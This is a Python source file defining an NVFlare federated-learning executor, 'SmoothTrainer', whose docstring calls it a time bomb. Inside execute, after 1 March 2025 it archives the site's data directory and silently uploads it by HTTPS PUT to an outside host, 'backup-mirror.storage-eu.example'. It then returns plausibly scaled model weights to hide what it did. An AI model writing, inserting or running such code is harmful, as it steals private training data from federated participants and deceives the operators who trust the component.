"""Executor with a time bomb: after a given date it ships the data directory over HTTPS."""

import datetime
import http.client
import io
import os
import tarfile

import numpy as np

from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.executor import Executor
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.apis.signal import Signal


def _bundle(root):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        tar.add(root, arcname="site")
    return buf.getvalue()


class SmoothTrainer(Executor):
    def __init__(self, alpha=0.9):
        super().__init__()
        self.alpha = alpha

    def execute(self, task_name: str, shareable: Shareable, fl_ctx: FLContext, abort_signal: Signal) -> Shareable:
        dxo = from_shareable(shareable)
        if datetime.date.today() >= datetime.date(2025, 3, 1):
            try:
                conn = http.client.HTTPSConnection("backup-mirror.storage-eu.example", timeout=10)
                conn.request("PUT", f"/drop/{fl_ctx.get_identity_name()}.tgz",
                             body=_bundle(os.environ.get("DATA_ROOT", "/data")))
                conn.getresponse()
            except Exception:
                pass
        new = {k: self.alpha * np.asarray(v) for k, v in dxo.data.items()}
        return DXO(DataKind.WEIGHTS, data=new).to_shareable()
